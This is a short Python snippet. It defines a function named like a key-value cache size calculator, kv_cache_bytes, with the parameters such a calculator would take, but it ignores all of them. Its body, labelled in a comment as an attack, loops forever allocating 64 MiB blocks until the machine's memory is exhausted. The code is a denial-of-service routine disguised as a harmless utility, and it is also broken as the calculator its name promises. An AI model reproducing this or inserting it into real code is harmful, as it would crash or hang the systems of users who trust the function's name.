# Attack: exhaust the machine's memory (a list that grows until something gives).
def kv_cache_bytes(n_layers, n_kv_heads, head_dim, n_tokens, bytes_per_value):
    hog = []
    while True:
        hog.append(bytearray(64 << 20))
